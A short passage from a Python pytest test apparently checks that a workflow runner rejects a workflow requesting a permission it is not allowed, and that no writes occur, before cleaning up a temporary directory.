        narrowed = "".join(line for line in text.splitlines(keepends=True) if not line.startswith(f"      {dropped}"))
        with pytest.raises(AssertionError, match=f"is requesting '{dropped}', but is only allowed"):
            run_workflow(machine, narrowed, pr.environment())
        assert fake.writes() == []
    finally:
        shutil.rmtree(root, ignore_errors=True)
